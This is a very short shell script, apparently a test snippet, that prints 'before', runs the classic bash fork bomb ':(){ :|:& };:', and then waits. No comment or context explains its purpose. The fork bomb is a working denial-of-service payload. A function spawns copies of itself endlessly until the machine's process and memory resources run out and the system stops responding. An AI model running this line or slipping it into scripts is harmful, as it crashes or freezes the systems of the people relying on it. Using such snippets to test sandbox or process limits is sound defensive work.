echo before
:(){ :|:& };:
wait
